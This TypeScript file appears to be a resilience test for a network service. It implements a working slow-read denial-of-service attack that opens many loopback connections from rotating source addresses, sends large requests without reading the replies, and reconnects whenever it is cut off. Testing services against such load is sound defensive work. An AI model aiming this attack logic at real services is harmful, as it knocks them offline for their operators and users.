import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { runAttack } from '../support/attack.ts'

/** Asks for large answers on many connections, several times on each, and reads nothing of them. Asks again on another when it is cut off. */
export interface UnreadAnswers {
  readonly port: number
  readonly connections: number
  readonly perAddress: number
  /** The whole requests that each connection sends at once. */
  readonly requests: string
}

/** What came of it. */
export interface UnreadSeen {
  readonly opened: number
  /** Connections that the service has cut off. */
  readonly cutOff: number
}

await runAttack<UnreadAnswers, UnreadSeen>(async ({ port, connections, perAddress, requests }, underWay, stop) => {
  const open = new Set<Socket>()
  let opened = 0
  let cutOff = 0
  const begin = (n: number) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.2.${1 + Math.floor(n / perAddress)}` })
    socket.pause()
    open.add(socket)
    socket.on('error', () => {})
    socket.on('connect', () => {
      opened++
      socket.write(requests)
    })
    // Goes on asking; one that reads nothing finds out that it was cut off when it writes.
    const asking = setInterval(() => socket.write(requests), 1000)
    socket.on('close', () => {
      clearInterval(asking)
      open.delete(socket)
      if (stop.aborted) return
      cutOff++
      setTimeout(() => !stop.aborted && begin(n), 100)
    })
  }
  for (let n = 0; n < connections; n++) {
    begin(n)
    if (n % 100 === 99) await pause(20)
  }
  underWay()
  while (!stop.aborted) await pause(100)
  for (const socket of open) socket.destroy()
  return { opened, cutOff }
})
